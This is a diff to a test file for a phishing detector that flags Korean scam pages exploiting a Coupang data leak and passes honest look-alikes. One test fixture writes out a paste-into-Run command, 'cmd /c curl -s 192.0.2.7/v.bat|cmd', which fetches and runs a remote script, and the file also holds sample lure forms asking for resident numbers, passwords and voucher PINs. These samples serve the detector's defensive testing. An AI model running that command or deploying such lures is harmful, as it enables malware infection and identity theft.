@@ -58,19 +58,21 @@ describe("author T's honest pages", () => {
       '명의보호센터',
       `<div class="bar">명의보호센터</div><h2>내 명의 개통 조회</h2>${form}<p>쿠팡 유출 이후 내 명의로 개통된 휴대폰이 있는지 확인할 수 있습니다.</p>`,
     );
-    expect(scan(honest, 'https://www.myname-guard.example/check').verdict).toBe('clean');
+    expect(scan(honest, 'https://www.myname-guard.or.kr/check').verdict).toBe('clean');
+    // a bar that repeats the title is a name only on a public body's host: a kit draws one for free
+    expect(scan(honest, 'https://myname-block.example/check').verdict).toBe('suspicious-page');
     // the same sentence going on to the lure's payout is the lure
     const payout = page(
       '명의보호센터',
       `<div class="bar">명의보호센터</div><h2>조회</h2>${form}<p>쿠팡 유출 이후 피해 보상금을 받으실 분은 본인 확인을 해 주세요.</p>`,
     );
-    expect(scan(payout, 'https://www.myname-guard.example/check').verdict).toBe('suspicious-page');
+    expect(scan(payout, 'https://www.myname-guard.or.kr/check').verdict).toBe('suspicious-page');
     // … and with no name of its own (no bar saying what its title says), the brand's sentence is the page's voice
     const bare = page(
       '본인 확인',
       `<h2>내 명의 개통 조회</h2>${form}<p>쿠팡 유출 이후 내 명의로 개통된 휴대폰이 있는지 확인할 수 있습니다.</p>`,
     );
-    expect(scan(bare, 'https://check-id.example/').verdict).toBe('suspicious-page');
+    expect(scan(bare, 'https://check-id.or.kr/').verdict).toBe('suspicious-page');
   });
 });
 
@@ -86,6 +88,17 @@ describe("author T's fakes", () => {
       scan(check('<input name="k" placeholder="해당 쇼핑몰 비밀번호 (대조용)">'), 'https://leak-chk.example/')
         .verdict,
     ).toBe('suspicious-page');
+    expect(
+      scan(check('<input name="k" placeholder="해당 쇼핑몰 계정 비밀번호">'), 'https://leak-chk.example/')
+        .verdict,
+    ).toBe('suspicious-page');
+    // a seller tool linking a marketplace asks for "that shop's" password honestly: no leak is its subject
+    const tool = page(
+      '셀러허브 - 쇼핑몰 연동',
+      '<header><b>셀러허브</b></header><h2>쿠팡 윙 연동</h2><p>쿠팡 윙 판매자 계정을 연동하면 주문을 한곳에서 관리할 수 있습니다.</p>' +
+        '<form><input name="id" placeholder="해당 쇼핑몰 아이디"><input type="password" name="pw" placeholder="해당 쇼핑몰 비밀번호"><button>연동</button></form>',
+    );
+    expect(scan(tool, 'https://app.sellerhub.example/shops/add').verdict).toBe('clean');
     // the honest leak check asks the e-mail only
     expect(scan(check(''), 'https://leak-chk.example/').verdict).toBe('clean');
   });
@@ -96,6 +109,12 @@ describe("author T's fakes", () => {
       '<form><label>성명<input name="n"></label><label>주민등록번호<input name="a" size="6">-<input name="b" type="password" size="7"></label><button>조회</button></form>';
     const worn = page('경찰청 - 피해 조회', `<div class="bar">경찰청 사이버수사국</div>${body}`);
     expect(scan(worn, 'https://kr-check.example/ecrm').verdict).toBe('suspicious-page');
+    // … however long the bar runs after the authority's name
+    const long = page(
+      '경찰청 - 피해 조회',
+      `<div class="bar">경찰청 사이버수사국 개인정보 유출 2차 피해 통합 조회 시스템</div>${body}`,
+    );
+    expect(scan(long, 'https://kr-check.example/ecrm').verdict).toBe('suspicious-page');
     // the same page on the government's own host is the authority's
     expect(scan(worn, 'https://ecrm.police.go.kr/check').verdict).toBe('clean');
     // and a headline naming the authority, on a page that does not wear it, is still talk
@@ -126,6 +145,22 @@ describe("author T's fakes", () => {
     const member =
       '<form><input name="uid" placeholder="아이디"><input type="password" name="upw" placeholder="비밀번호"><button>로그인</button></form>';
     expect(scan(article(member), 'https://daily-cr.example/news/7').verdict).toBe('clean');
+    // … or a subscription's account, or a suit's sign-up it hosts for a firm: neither looks a payout up
+    const subscribe =
+      '<form><input name="n" placeholder="신청인 이름"><input name="t" placeholder="연락처"><input name="b" placeholder="자동이체 은행"><input name="a" placeholder="출금 계좌번호"><button>구독 신청</button></form>';
+    expect(scan(article(subscribe), 'https://daily-cr.example/news/7').verdict).toBe('clean');
+    const suit =
+      '<form><input name="n" placeholder="이름"><input name="b" placeholder="생년월일"><input name="t" placeholder="휴대폰 번호"><button>공동소송 참여 신청</button></form>';
+    expect(scan(article(suit), 'https://daily-cr.example/news/7').verdict).toBe('clean');
+    // the consolation money the news reported is a payout to look up too, and a one-time code no paper takes
+    const otp =
+      '<form><input name="n" placeholder="이름"><input name="p" placeholder="휴대폰번호"><input name="d" placeholder="생년월일"><input name="c" placeholder="문자 인증번호"><button>위로금 조회</button></form>';
+    const consolation = page(
+      '쿠팡 위로금 대상 확인 - 소비자경제신문',
+      '<div class="mast">소비자경제신문</div><article><h1>쿠팡 위로금, 지금 확인하세요</h1><p class="by">김하늘 기자 · 입력 2025.12.20</p>' +
+        `<p>쿠팡 고객정보 유출 사고와 관련한 위로금 대상 확인이 시작됐다.</p>${otp}</article>`,
+    );
+    expect(scan(consolation, 'https://daily-cr.example/news/8').verdict).toBe('suspicious-page');
   });
 
   it("reads an identity card's picture asked as a file as the resident number it shows", () => {
@@ -142,6 +177,13 @@ describe("author T's fakes", () => {
     expect(scan(job('<input type="file" name="id_card">'), 'https://flex-job.example/apply').verdict).toBe(
       'suspicious-page',
     );
+    // (the colloquial 주민증, and the word with invisible joiners between its letters)
+    expect(
+      scan(job('<p>주민증 앞면 <input type="file"></p>'), 'https://flex-job.example/apply').verdict,
+    ).toBe('suspicious-page');
+    expect(
+      scan(job('<p>신\u200b분\u200b증 <input type="file"></p>'), 'https://flex-job.example/apply').verdict,
+    ).toBe('suspicious-page');
     // a résumé is what an application takes
     const staffing = page(
       '한결인력 - 물류센터 단기 알바',
@@ -149,6 +191,13 @@ describe("author T's fakes", () => {
         '<form><input name="name" placeholder="이름"><input name="phone" placeholder="연락처"><p>이력서 <input type="file" name="resume"></p><button>지원하기</button></form>',
     );
     expect(scan(staffing, 'https://hangyeol-staff.example/apply').verdict).toBe('clean');
+    // … and an employer that names itself takes an identity card's copy for the contract
+    const contract = page(
+      '쿠팡 물류센터 단기 알바 모집',
+      '<header><b>한결인력</b></header><h2>물류센터 단기 알바 지원</h2><p>쿠팡 물류센터 등 수도권 센터 근무, 주 3일 이상.</p>' +
+        '<form><input name="name" placeholder="이름"><input name="phone" placeholder="연락처"><p>신분증 사본 (근로계약서 작성용) <input type="file" name="idcopy"></p><button>지원하기</button></form>',
+    );
+    expect(scan(contract, 'https://hangyeol-staff.example/apply').verdict).toBe('clean');
   });
 
   it("reads a voucher's PIN asked as proof of who the reader is, or to unlock a payout, as the voucher spent", () => {
@@ -164,6 +213,11 @@ describe("author T's fakes", () => {
       `<div class="logo">Coupang</div><h2>Gift card verification</h2><p>To unlock your compensation, register a gift card PIN (refunded).</p>${pins}`,
     );
     expect(scan(unlock, 'https://cash-chk.example/pin').verdict).toBe('suspicious-page');
+    const realName = page(
+      '상품권 등록',
+      `<h2>쿠팡캐시 위로금 지급</h2><p>실명 확인을 위해 문화상품권 PIN을 등록해 주세요. 확인 후 되돌려 드립니다.</p>${pins}`,
+    );
+    expect(scan(realName, 'https://cash-chk.example/pin').verdict).toBe('suspicious-page');
     // registering a voucher into a wallet spends nothing the reader does not choose to
     const wallet = page(
       '상품권 등록',
@@ -172,7 +226,7 @@ describe("author T's fakes", () => {
     expect(scan(wallet, 'https://cash-chk.example/pin').verdict).toBe('clean');
   });
 
-  it('reads "보상 결과", "보상 조회" and "보상 대상" as the payout lure they are', () => {
+  it('reads "보상 결과" as the payout lure 보상금 is', () => {
     const bait = page(
       '알림',
       '<div class="ov"><h3>\'허용\'을 눌러 쿠팡 보상 결과를 받아보세요</h3><p>조회 결과는 알림으로만 보내 드립니다.</p></div>' +
@@ -185,6 +239,13 @@ describe("author T's fakes", () => {
       '<header><b>한빛일보</b></header><h2>쿠팡 보상 결과, 이번 주 발표</h2><p>쿠팡 보상 결과 발표 일정과 대상자 기준을 정리했다.</p><button>속보 알림 받기</button>',
     );
     expect(scan(paper, 'https://hanbit-ilbo.example/n/2').verdict).toBe('clean');
+    // (not "보상 대상 조회": a law firm offers to check who may claim in those words, with its own name atop)
+    const firm = page(
+      '법무법인 한결 - 쿠팡 유출 보상대상 조회',
+      '<header><b>법무법인 한결</b></header><h2>쿠팡 유출 보상대상 조회</h2><p>쿠팡 개인정보 유출 피해 소송 참여 대상인지 확인해 드립니다.</p>' +
+        '<form><input name="n" placeholder="이름"><input name="b" placeholder="생년월일"><input name="t" placeholder="연락처"><button>조회</button></form>',
+    );
+    expect(scan(firm, 'https://hangyeol-law.example/coupang').verdict).toBe('clean');
   });
 
   it("reads the brand's name signed on a command the page copies for the Run box as the brand's voice", () => {
@@ -198,6 +259,13 @@ describe("author T's fakes", () => {
     expect(scan(fix('쿠팡 보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe(
       'suspicious-page',
     );
+    // (the line built in a variable first)
+    const built = fix('x').replace(
+      "navigator.clipboard.writeText('cmd /c curl -s 192.0.2.7/v.bat|cmd # x')",
+      "var line='cmd /c curl -s 192.0.2.7/v.bat|cmd'+' # 쿠팡 보안 인증';navigator.clipboard.writeText(line)",
+    );
+    expect(built).toContain('writeText(line)');
+    expect(scan(built, 'http://192.0.2.9:8443/check').verdict).toBe('suspicious-page');
     // the same kit signing with no name of the brand's is no Coupang page (another guard's to catch)
     expect(scan(fix('보안 인증 ID:32747'), 'http://192.0.2.9:8443/check').verdict).toBe('clean');
   });
